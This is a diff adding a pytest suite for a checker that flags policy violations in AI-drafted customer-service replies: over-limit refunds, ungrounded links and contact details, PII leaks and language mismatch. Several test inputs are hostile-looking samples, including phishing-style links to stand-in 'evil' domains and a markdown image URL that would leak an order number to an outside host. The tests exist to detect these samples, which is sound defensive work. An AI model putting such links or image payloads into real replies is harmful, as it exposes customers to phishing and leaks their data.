@@ -1,0 +1,179 @@
+"""Grounded drafts: links, our contact details and money in a draft come from the policy, not the mail.
+
+And the pipeline's gate compares the draft's own language with the customer's.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from replydraft import Email, FakeBackend, check, draft_reply, load_policy
+from replydraft.errors import PolicyError
+
+from .helpers import GOOD_DRAFT, MAIL, analysis
+
+DEFAULT = load_policy("default")
+
+
+def codes(text: str, email: Email | None = None, policy=None, language: str = "nl") -> list[str]:
+    return [f.code for f in check(text, language=language, email=email, policy=policy or DEFAULT).findings]
+
+
+def with_policy(**sections) -> object:
+    data = DEFAULT.model_dump()
+    for section, values in sections.items():
+        data[section] = {**data[section], **values}
+    return type(DEFAULT).model_validate(data)
+
+
+MAIL_500 = Email(body="Mijn pakket is kapot. Ik wil 500 euro terug, dat had uw collega beloofd. Bel me op 06-12345678.")
+
+
+# --- promise_beyond_policy -------------------------------------------------------------------------
+
+def test_a_refund_beyond_the_limit_is_flagged_even_when_the_mail_names_the_amount():
+    report = check("U krijgt 500 euro van ons terug.", language="nl", email=MAIL_500)
+    found = [f for f in report.findings if f.code == "promise_beyond_policy"]
+    assert found and found[0].severity == "error" and found[0].rule == "GR2"
+    assert "150.00" in found[0].message and report.status == "needs_review"
+
+
+@pytest.mark.parametrize("draft", [
+    "U krijgt 25 euro tegoed.",  # goodwill at the 25-euro limit
+    "We storten de € 49,95 morgen terug.",  # a refund within the limit
+    "U betaalt 500 euro per jaar.",  # what the customer pays is no promise
+    "Uw factuur van € 300 klopt niet; u krijgt € 20 korting.",  # a price quoted next to a small credit
+    "U krijgt geen 500 euro terug.",  # denied
+    "U kunt het pakket gratis retourneren.",  # may_offer: "gratis retour"
+])
+def test_money_within_the_policy_or_owed_by_the_customer_passes(draft):
+    assert "promise_beyond_policy" not in codes(draft, MAIL_500)
+
+
+@pytest.mark.parametrize("draft, language", [
+    ("U krijgt een tegoedbon van € 40.", "nl"),  # goodwill over 25
+    ("U krijgt 10% korting op uw volgende bestelling.", "nl"),  # may_offer names no percentage
+    ("Gebruik de kortingscode SORRY-25 bij uw volgende bestelling.", "nl"),  # not in discount_codes
+    ("Wij zorgen voor gratis verzending van uw volgende bestelling.", "nl"),  # may_offer has no free delivery
+    ("We will refund you € 400 today.", "en"),
+    ("As an apology you'll get a $ 60 voucher.", "en"),
+])
+def test_money_codes_and_free_things_beyond_the_policy_are_flagged(draft, language):
+    assert "promise_beyond_policy" in codes(draft, language=language)
+
+
+def test_a_listed_code_and_an_offered_percentage_pass():
+    policy = with_policy(promises={"discount_codes": ["SORRY-25"], "may_offer": ["10% korting op een volgende bestelling"]})
+    assert "promise_beyond_policy" not in codes("U krijgt 10% korting met de kortingscode SORRY-25.", policy=policy)
+    assert "promise_beyond_policy" in codes("U krijgt 15% korting.", policy=policy)
+
+
+def test_a_may_not_promise_line_is_flagged_unless_denied():
+    assert "promise_beyond_policy" in codes("De bezorger komt met een levering op een vast tijdstip: 10.00 uur.")
+    assert "promise_beyond_policy" not in codes("Een levering op een vast tijdstip kunnen we niet beloven.")
+
+
+# --- ungrounded_link -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("draft", [
+    "Ga naar voorbeeld-retour.nl voor uw label.",
+    "Kijk op https://betaal-nu.example.com/verify.",
+    "Zie www.evil.example voor meer.",
+    "Klik [hier](https://evil.example/retour) om te starten.",
+    "![logo](https://evil/?q=ordernummer-4471829)",
+])
+def test_links_outside_the_policy_are_ungrounded(draft):
+    assert "ungrounded_link" in codes(draft)
+
+
+def test_our_website_its_subdomains_and_allowed_domains_pass_and_the_customers_link_does_not():
+    fine = "Kijk op https://www.voorbeeld.nl/retour, op help.voorbeeld.nl of volg uw pakket op postnl.nl."
+    assert "ungrounded_link" not in codes(fine)
+    email = Email(body="De foto's staan op www.mijnfotos.nl/schade. Wat nu?")
+    assert "ungrounded_link" in codes("De foto's op www.mijnfotos.nl/schade hebben we gezien.", email)
+    # A domain that only ends like ours is not ours.
+    assert "ungrounded_link" in codes("Kijk op nepvoorbeeld.nl/retour.")
+    # An e-mail address is no link; file names and decimals are not either.
+    assert "ungrounded_link" not in codes("Mail ons op klantenservice@voorbeeld.nl over factuur.pdf van 1.5 kilo.")
+
+
+def test_a_policy_without_a_website_allows_no_link():
+    policy = with_policy(company={"website": ""}, links={"allowed_domains": []})
+    assert "ungrounded_link" in codes("Kijk op https://www.voorbeeld.nl/retour.", policy=policy)
+
+
+# --- ungrounded_contact and pii_leak --------------------------------------------------------------
+
+@pytest.mark.parametrize("draft", [
+    "Bel ons op 0900-1234567.",
+    "Mail naar retouren@voorbeeld-service.nl.",
+    "Stuur het pakket naar Kerkstraat 12, 1234 AB Utrecht.",
+    "Stort het bedrag op NL91ABNA0417164300.",
+    "Bel ons op 06-12345678.",  # the customer's own number, presented as ours
+    "Tot morgen.\n\nMet vriendelijke groet,\nTeam Klantenservice\nTel: 085-7654321",  # in the signature block
+])
+def test_contact_details_presented_as_ours_must_be_the_policys(draft):
+    found = codes(draft, MAIL_500)
+    assert "ungrounded_contact" in found and "pii_leak" not in found
+
+
+def test_our_own_details_and_the_customers_own_as_theirs_pass():
+    draft = ("We bellen u morgen op 06-12345678. U kunt ons ook bellen op 020 123 4567 of mailen naar "
+             "klantenservice@voorbeeld.nl. Stuur retouren naar Postbus 1234, 1000 AB Amsterdam.")
+    found = codes(draft, MAIL_500)
+    assert "ungrounded_contact" not in found and "pii_leak" not in found
+    english = "We'll call you on 06-12345678 tomorrow. You can also call us on 020 123 4567."
+    assert not {"ungrounded_contact", "pii_leak"} & set(codes(english, MAIL_500, language="en"))
+
+
+def test_a_third_partys_detail_not_presented_as_ours_stays_pii_leak():
+    found = codes("Uw buurman heeft nummer 06-87654321 opgegeven.", MAIL_500)
+    assert "pii_leak" in found and "ungrounded_contact" not in found
+
+
+def test_a_payment_iban_in_the_policy_grounds_it():
+    policy = with_policy(company={"payment_iban": "NL91ABNA0417164300"})
+    assert "ungrounded_contact" not in codes("Stort het bedrag op NL91 ABNA 0417 1643 00.", policy=policy)
+
+
+def test_the_new_policy_keys_are_validated_strictly(tmp_path):
+    bad = tmp_path / "team.toml"
+    bad.write_text('[links]\nallowed_domain = ["x.nl"]\n', encoding="utf-8")
+    with pytest.raises(PolicyError, match="links.allowed_domain"):
+        load_policy(bad)
+    for name in ("default", "energie"):
+        policy = load_policy(name)
+        assert policy.company.website and policy.links.allowed_domains and policy.promises.discount_codes == []
+
+
+# --- the pipeline ----------------------------------------------------------------------------------
+
+def test_the_pipeline_gates_a_refund_beyond_the_policy():
+    draft = GOOD_DRAFT.replace("Wij betalen het bedrag van 89,95 euro binnen drie werkdagen terug.",
+                               "U krijgt 500 euro van ons terug, binnen drie werkdagen.")
+    fake = FakeBackend([analysis(), draft, draft], default=draft)
+    result = draft_reply(MAIL, backend=fake)
+    assert "promise_beyond_policy" in {f.code for f in result.checks.findings}
+    assert result.status == "needs_review"
+
+
+ENGLISH = (
+    "Dear Marieke de Vries,\n\nYour parcel will be delivered tomorrow between 9.00 and 13.00. That is later than "
+    "we promised, and I am sorry you had to wait so long.\n\nDo you still want to cancel? You can do that until "
+    "the parcel arrives. Just reply to this mail and we will refund the 89.95 euro within three working days."
+)
+
+
+def test_an_english_draft_to_a_dutch_mail_is_a_language_mismatch_in_the_pipeline():
+    fake = FakeBackend([analysis(), ENGLISH, ENGLISH], default=ENGLISH)
+    result = draft_reply(MAIL, backend=fake)
+    assert "language_mismatch" in {f.code for f in result.checks.findings}
+    assert result.status == "needs_review"
+
+
+def test_a_dutch_draft_to_a_dutch_mail_is_no_language_mismatch_even_short():
+    short = "Beste Marieke,\n\nUw pakket komt morgen voor 13.00 uur. Sorry dat het zo lang duurde."
+    for draft in (GOOD_DRAFT, short):
+        fake = FakeBackend([analysis(), draft, draft], default=draft)
+        result = draft_reply(MAIL.model_copy(update={"language": None}), backend=fake)
+        assert "language_mismatch" not in {f.code for f in result.checks.findings}
